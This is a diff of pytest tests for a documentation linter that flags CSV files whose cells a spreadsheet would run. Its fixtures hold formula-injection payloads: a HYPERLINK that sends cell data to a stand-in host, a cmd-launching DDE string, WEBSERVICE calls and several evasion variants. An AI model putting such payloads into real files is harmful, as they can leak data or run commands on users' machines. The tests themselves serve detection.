@@ -109,6 +109,32 @@ def test_a_table_in_another_encoding_is_told(docs: Path) -> None:
     assert "GBK" in one_finding(judged(docs), "docs/a.csv", "encoding").message
 
 
+CALLS = {
+    "a link": 'a,b\n1,"=HYPERLINK(""https://x.example/?""&A1,""more"")"\n',
+    "a program": "a,b\n-1,-2\n1,@SUM(1+1)*cmd|' /C calc'!A0\n",
+    "another file": "a,b\n1,='https://x.example/[x.xls]y'!A1\n",
+    "behind spaces": "a;b\n1; \u200b+WEBSERVICE(1)\n",
+    "over two lines": 'a,b\n"=\nHYPERLINK(1)",1\n',
+    "a sign of full width": "a\tb\n1\t\uff1dHYPERLINK(1)\n",
+    "a cell of thousands of letters": f"a\n1,f({'x' * 200_000}\n",
+}
+
+
+@pytest.mark.parametrize("text", CALLS.values(), ids=CALLS)
+def test_a_table_calls_nothing(text: str, docs: Path) -> None:
+    write(docs, "a.csv", text.encode())
+    (finding,) = judged(docs).findings
+    assert (finding.file, finding.rule) == ("docs/a.csv", "site-file")
+    assert 1 < finding.line <= text.count("\n")
+    assert "a spreadsheet would run" in finding.message
+
+
+def test_a_table_may_hold_numbers_below_zero_and_notes(docs: Path) -> None:
+    table = 'a,b\n-1.5,+2\n-3 (estimated),"- a note; - another (long)"\n@somebody,=\n'
+    write(docs, "a.csv", table.encode())
+    assert judged(docs).findings == ()
+
+
 MKDOCS = """
 extra_css: ["assets/a.css?v=2", ./b.css]
 extra_javascript:
